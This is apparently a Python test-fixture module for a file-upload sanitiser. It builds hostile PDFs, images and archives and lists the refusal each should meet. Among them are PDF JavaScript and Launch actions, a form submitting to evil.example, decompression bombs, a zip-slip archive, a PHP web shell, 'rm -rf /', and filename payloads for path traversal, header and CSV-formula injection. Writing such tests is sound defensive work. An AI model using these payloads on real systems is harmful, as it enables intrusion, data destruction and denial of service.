"""Files that nobody honest sends, made on the spot: each with what must become of it."""

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pikepdf
from PIL import Image

from . import sample_files

MEGABYTE = 1024**2


@dataclass(frozen=True)
class Hostile:
    """A file, and the code of the refusal it must meet; none when it is kept, made harmless."""

    name: str
    make: Callable[[], bytes]
    refused_as: str = ""


# PDF


def pdf(pages: int = 1, **root: object) -> bytes:
    """A PDF made by a library; ``root`` goes into its catalogue."""
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page()
    for name, value in root.items():
        made.Root[f"/{name}"] = value
    return saved(made)


def saved(made: pikepdf.Pdf, **options) -> bytes:
    output = io.BytesIO()
    made.save(output, **options)
    return output.getvalue()


def dictionary(**members: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary({f"/{name}": value for name, value in members.items()})


def name(text: str) -> pikepdf.Name:
    return pikepdf.Name(f"/{text}")


def action(kind: str, **members: object) -> pikepdf.Dictionary:
    return dictionary(S=name(kind), **members)


def raw_pdf(
    *objects: bytes, trailer: bytes = b"/Root 1 0 R", header: bytes = b"%PDF-1.7\n"
) -> bytes:
    """A PDF written by hand: its objects are numbered from 1."""
    content = bytearray(header)
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(content)
    content += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    content += b"".join(b"%010d 00000 n \n" % place for place in places)
    content += b"trailer\n<< /Size %d %s >>\n" % (len(objects) + 1, trailer)
    return bytes(content) + b"startxref\n%d\n%%%%EOF\n" % start


CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>"


def with_annotation(**members: object) -> bytes:
    """A PDF whose page carries an annotation."""
    made = pikepdf.new()
    page = made.add_blank_page()
    page.obj["/Annots"] = pikepdf.Array([dictionary(Type=name("Annot"), **members)])
    return saved(made)


def with_link(action_of_link: pikepdf.Dictionary) -> bytes:
    return with_annotation(Subtype=name("Link"), A=action_of_link)


def with_attachment() -> bytes:
    made = pikepdf.new()
    made.add_blank_page()
    made.attachments["virus.exe"] = b"MZ"
    return saved(made)


def hidden_javascript() -> bytes:
    """In an object stream, where no search of the bytes sees it."""
    made = pikepdf.new()
    made.add_blank_page()
    made.Root["/OpenAction"] = made.make_indirect(action("JavaScript", JS="app.alert(1)"))
    return saved(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def escaped_javascript() -> bytes:
    """Its name written otherwise."""
    catalogue = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /#4aava#53cript /#4aS (1) >> >>"
    return raw_pdf(catalogue, PAGES, PAGE)


def encrypted(**passwords: str) -> bytes:
    made = pikepdf.new()
    made.add_blank_page()
    return saved(made, encryption=pikepdf.Encryption(**passwords))


@functools.cache
def deflated(size: int, byte: bytes = b" ") -> bytes:
    """``size`` times the same byte, of which a thousandth is left."""
    packer = zlib.compressobj(9)
    block = byte * MEGABYTE
    packed = b"".join(packer.compress(block) for _ in range(size // MEGABYTE))
    return packed + packer.flush()


def object_stream_bomb() -> bytes:
    """An object stream of 512 MB in 500 kB: whoever looks for the page unpacks it."""
    packed = deflated(512 * MEGABYTE)
    stream = (
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
    )
    table = b"".join(
        struct.pack(">BIB", kind, first, second)
        for kind, first, second in (
            (0, 0, 0),
            (2, 4, 0),
            (2, 4, 1),
            (2, 4, 2),
            (1, 9, 0),
            (1, 0, 0),
        )
    )
    content = b"%PDF-1.7\n4 0 obj\n" + stream % (len(packed), packed) + b"\nendobj\n"
    start = len(content)
    table = table[:-6] + struct.pack(">BIB", 1, start, 0)
    content += (
        b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 1] /Root 1 0 R /Length %d >>\nstream\n%s\n"
        b"endstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (len(table), table, start)
    )
    return content


def cross_reference_bomb() -> bytes:
    """Its table of contents weighs 512 MB once unpacked."""
    packed = deflated(512 * MEGABYTE, b"\x01")
    content = b"%PDF-1.7\n"
    start = len(content)
    return content + (
        b"5 0 obj\n<< /Type /XRef /Size 150000000 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
        b"/Length %d >>\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
        % (len(packed), packed, start)
    )


def nested_pdf(depth: int = 200_000) -> bytes:
    return raw_pdf(
        CATALOGUE, PAGES, PAGE, b"[" * depth + b"]" * depth, trailer=b"/Root 1 0 R /Deep 4 0 R"
    )


def many_objects(count: int = 250_000) -> bytes:
    """More objects than any honest file of this weight."""
    return raw_pdf(CATALOGUE, PAGES, PAGE, *([b"1"] * count))


def looping_pages() -> bytes:
    """A tree of pages whose branch is its own trunk."""
    return raw_pdf(CATALOGUE, b"<< /Type /Pages /Kids [2 0 R] /Count 1000000 >>")


def looping_tables() -> bytes:
    """A table of contents that follows itself."""
    content = raw_pdf(CATALOGUE, PAGES, PAGE)
    start = content.rindex(b"xref\n", 0, content.rindex(b"startxref"))
    return content.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % start)


def looping_length() -> bytes:
    """A stream whose length is itself."""
    stream = b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>"
    return raw_pdf(CATALOGUE, PAGES, page, stream)


def followed_by(first: bytes, second: bytes) -> bytes:
    """Two files in one: each reader finds its own."""
    return first + second


def pdf_with_a_zip_behind() -> bytes:
    return followed_by(pdf(), sample_files.archive(virus_dot_exe=b"MZ")) + b"\n%%EOF\n"


# Images


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_with(*chunks: bytes) -> bytes:
    """A small PNG with these chunks after its header."""
    content = sample_files.image_bytes("PNG", Image.new("RGB", (8, 8), "red"))
    return content[:33] + b"".join(chunks) + content[33:]


def png_with_wrong_sums() -> bytes:
    content = bytearray(sample_files.image_bytes("PNG"))
    content[60] ^= 0xFF
    return bytes(content)


def webp_of(width: int, height: int) -> bytes:
    """A lossless WebP that announces a size and has nothing of it."""
    bits = (width - 1) | (height - 1) << 14
    body = b"WEBPVP8L" + struct.pack("<I", 5) + b"\x2f" + struct.pack("<I", bits) + b"\x00"
    return b"RIFF" + struct.pack("<I", len(body)) + body


def jpeg_of(width: int, height: int) -> bytes:
    """A JPEG that announces a size and has little of it."""
    content = bytearray(sample_files.image_bytes("JPEG"))
    place = content.index(b"\xff\xc0") + 5
    content[place : place + 4] = struct.pack(">HH", height, width)
    return bytes(content)


def jpeg_of_many_passes(passes: int = 20_000) -> bytes:
    """A large progressive JPEG that goes over its pixels again and again, for nothing."""
    content = sample_files.image_bytes("JPEG", Image.new("L", (6000, 6000)), progressive=True)
    start = content.rindex(b"\xff\xda")
    one_more = content[start:-2]
    return content[:-2] + one_more * passes + b"\xff\xd9"


def jpeg_with_a_page_inside() -> bytes:
    return sample_files.image_bytes("JPEG", comment=b"<script>alert(1)</script><?php evil(); ?>")


def gif_of_many_views() -> bytes:
    views = [Image.new("P", (64, 64), n % 256) for n in range(2_000)]
    return sample_files.image_bytes("GIF", views[0], save_all=True, append_images=views[1:])


def archive_bomb() -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("zeros", bytes(200 * MEGABYTE))
    return output.getvalue()


def half(content: bytes) -> bytes:
    return content[: len(content) // 2]


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><script>location='//evil.example'</script>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-" + rb"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
EXE = b"MZ\x90\x00" + bytes(200) + b"This program cannot be run in DOS mode."
SHELL = b"#!/bin/sh\nrm -rf /\n"


def _pdfs() -> Iterator[tuple[str, Hostile]]:
    script = action("JavaScript", JS="app.alert(1)")
    active: dict[str, Callable[[], bytes]] = {
        "javascript at opening": lambda: pdf(OpenAction=script),
        "named javascript": lambda: pdf(Names=dictionary(JavaScript=dictionary())),
        "javascript in an object stream": hidden_javascript,
        "javascript under an escaped name": escaped_javascript,
        "launch": lambda: pdf(OpenAction=action("Launch", F="cmd.exe")),
        "additional actions": lambda: pdf(AA=dictionary(WC=script)),
        "form that sends itself": lambda: with_link(action("SubmitForm", F="http://evil.example")),
        "imported data": lambda: with_link(action("ImportData", F="x.fdf")),
        "form of another kind": lambda: pdf(AcroForm=dictionary(XFA="<xdp/>")),
        "other file of the network": lambda: with_link(action("GoToR", F="\\\\evil\\x")),
        "rich media": lambda: with_annotation(Subtype=name("RichMedia")),
        "film": lambda: with_annotation(Subtype=name("Movie")),
        "link to a disk": lambda: with_link(action("URI", URI="file:///etc/passwd")),
        "link that is a program": lambda: with_link(action("URI", URI="JavaScript:alert(1)")),
        "action after a harmless one": lambda: with_link(
            action("URI", URI="https://x", Next=script)
        ),
    }
    for title, make in active.items():
        yield f"pdf: {title}", Hostile("devis.pdf", make, "pdf_active")
    others: dict[str, tuple[Callable[[], bytes], str]] = {
        "attached file": (with_attachment, "pdf_attached"),
        "attached by a note": (
            lambda: with_annotation(Subtype=name("FileAttachment")),
            "pdf_attached",
        ),
        "password": (lambda: encrypted(user="secret", owner="other"), "pdf_password"),
        "five thousand pages": (lambda: pdf(5_000), "pdf_pages"),
        "no page": (lambda: pdf(0), "pdf_unreadable"),
        "truncated": (lambda: half(pdf(50)), "not_a_pdf"),
        "nothing between the ends": (
            lambda: b"%PDF-1.7\n" + bytes(500) + b"%%EOF",
            "pdf_unreadable",
        ),
        "object stream bomb": (object_stream_bomb, "pdf_"),
        "cross reference bomb": (cross_reference_bomb, "pdf_"),
        "too many objects": (many_objects, "pdf_complex"),
        "looping pages": (looping_pages, "pdf_"),
        "after a page of the web": (lambda: followed_by(HTML, pdf()), "not_a_pdf"),
        "really a program": (lambda: EXE, "not_a_pdf"),
        "really an archive": (lambda: sample_files.archive(a_dot_txt=b"a"), "not_a_pdf"),
        "really a page of the web": (lambda: HTML, "not_a_pdf"),
        "empty": (lambda: b"", "empty"),
        "too heavy": (lambda: pdf() + bytes(10 * MEGABYTE) + b"%%EOF", "file_too_large"),
    }
    for title, (make, code) in others.items():
        yield f"pdf: {title}", Hostile("devis.pdf", make, code)
    harmless: dict[str, Callable[[], bytes]] = {
        "an archive behind": pdf_with_a_zip_behind,
        "nested without end": nested_pdf,
        "looping tables": looping_tables,
        "looping length": looping_length,
        "limits of use only": lambda: encrypted(owner="other"),
        "opens at its first page": lambda: pdf(OpenAction=pikepdf.Array([0, name("Fit")])),
        "link to a site": lambda: with_link(action("URI", URI="https://www.example.org")),
    }
    for title, make in harmless.items():
        yield f"pdf: {title}", Hostile("devis.pdf", make)


def _images() -> Iterator[tuple[str, Hostile]]:
    text = b"Comment\x00\x00" + deflated(64 * MEGABYTE)
    profile = b"icc\x00\x00" + deflated(64 * MEGABYTE)
    refused: dict[str, tuple[str, Callable[[], bytes], str]] = {
        "bomb of 20,000 by 20,000": ("p.png", sample_files.bomb_png, "file_too_many_pixels"),
        "announces 16,383 by 16,383": (
            "p.webp",
            lambda: webp_of(16_383, 16_383),
            "file_too_many_pixels",
        ),
        "announces 65,000 by 65,000": (
            "p.jpg",
            lambda: jpeg_of(65_000, 65_000),
            "file_too_many_pixels",
        ),
        "truncated JPEG": ("p.jpg", sample_files.truncated_jpeg, "damaged_image"),
        "wrong sums": ("p.png", png_with_wrong_sums, ""),
        "truncated HEIC": ("p.heic", lambda: half(sample_files.phone_photo("HEIF")), ""),
        "truncated AVIF": ("p.avif", lambda: half(sample_files.phone_photo("AVIF")), ""),
        "three bytes": ("p.jpg", lambda: b"\xff\xd8\xff", "kind_refused"),
        "SVG with a program": ("logo.svg", lambda: SVG, "kind_refused"),
        "SVG called PNG": ("logo.png", lambda: SVG, "kind_refused"),
        "page called photo": ("p.jpg", lambda: HTML, "kind_refused"),
        "program called photo": ("p.jpg", lambda: EXE, "kind_refused"),
        "TIFF": ("p.tiff", lambda: sample_files.image_bytes("TIFF"), "kind_refused"),
        "BMP": ("p.bmp", lambda: sample_files.image_bytes("BMP"), "kind_refused"),
        "icon": ("p.ico", lambda: sample_files.image_bytes("ICO"), "kind_refused"),
        "PostScript": ("p.eps", lambda: sample_files.image_bytes("EPS"), "kind_refused"),
        "text bomb in a PNG": ("p.png", lambda: png_with(chunk(b"zTXt", text)), "kind_refused"),
        "profile bomb in a PNG": (
            "p.png",
            lambda: png_with(chunk(b"iCCP", profile)),
            "kind_refused",
        ),
    }
    for title, (called, make, code) in refused.items():
        yield f"image: {title}", Hostile(called, make, code or "*")
    kept: dict[str, tuple[str, Callable[[], bytes]]] = {
        "page of the web inside": ("p.jpg", jpeg_with_a_page_inside),
        "archive behind": (
            "p.jpg",
            lambda: followed_by(
                sample_files.image_bytes("JPEG"), sample_files.archive(virus_dot_exe=b"MZ")
            ),
        ),
        "two thousand views": ("p.gif", gif_of_many_views),
        "position of a home": ("p.jpg", sample_files.phone_photo),
        "HEIC called JPEG": ("p.jpg", lambda: sample_files.phone_photo("HEIF")),
        "PNG without an extension": ("image", lambda: sample_files.image_bytes("PNG")),
    }
    for title, (called, make) in kept.items():
        yield f"image: {title}", Hostile(called, make)


def _others() -> Iterator[tuple[str, Hostile]]:
    slip = sample_files.archive(**{"_dot__dot____dot__dot____etc__passwd": b"root"})
    made: dict[str, tuple[str, Callable[[], bytes]]] = {
        "archive that climbs": ("photos.zip", lambda: slip),
        "archive bomb": ("photos.zip", archive_bomb),
        "Word with macros": (
            "devis.docx",
            lambda: sample_files.archive(word__document_dot_xml=b"", word__vbaProject_dot_bin=b""),
        ),
        "film": ("film.mp4", lambda: b"\x00\x00\x00\x18ftypmp42" + bytes(100)),
        "sound": ("message.m4a", lambda: b"\x00\x00\x00\x18ftypM4A " + bytes(100)),
        "shell": ("photo.sh", lambda: SHELL),
        "PHP": ("photo.php", lambda: b"<?php system($_GET['c']); ?>"),
        "rules of a server": (".htaccess", lambda: b"AddType text/html .jpg"),
        "test virus": ("facture.pdf.exe", lambda: EICAR),
        "formulas": ("liste.csv", lambda: b"=HYPERLINK(1)"),
        "sheet with entities": ("x.xml", lambda: b'<!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>'),
    }
    for title, (called, make) in made.items():
        yield f"other: {title}", Hostile(called, make, "kind_refused")


# What files are called, and what is kept of it (they are all the same PDF).
NAMES: dict[str, str] = {
    "../../etc/passwd": "passwd.pdf",
    "..\\..\\windows\\win.ini": "win.pdf",
    "C:\\Users\\Zoé\\devis.pdf": "devis.pdf",
    "devis\r\nX-Injected: 1.pdf": "devis X-Injected 1.pdf",
    "devis\x00.exe.pdf": "devis .exe.pdf",
    "photo\u202efdp.exe": "photofdp.pdf",
    "con.pdf": "fichier con.pdf",
    ".pdf": "pdf.pdf",
    "": "fichier.pdf",
    "...": "fichier.pdf",
    "a" * 300 + ".pdf": "a" * 80 + ".pdf",
    'x"; filename="y.html': "x filename= y.pdf",
    "<script>alert(1)</script>.pdf": "script.pdf",
    "=cmd|' /C calc'!A0.pdf": "C calc'!A0.pdf",
    "-rf =1+1.pdf": "rf =1+1.pdf",
    "@SUM(1).pdf": "SUM(1).pdf",
    "devis.pdf.pdf": "devis.pdf",
    "facture.jpg": "facture.pdf",
    "Ковальчук 🌳.pdf": "Ковальчук 🌳.pdf",
    "عقد.pdf": "عقد.pdf",
    "e\u0301te\u0301.pdf": "été.pdf",
}

HOSTILE: dict[str, Hostile] = dict([*_pdfs(), *_images(), *_others()])
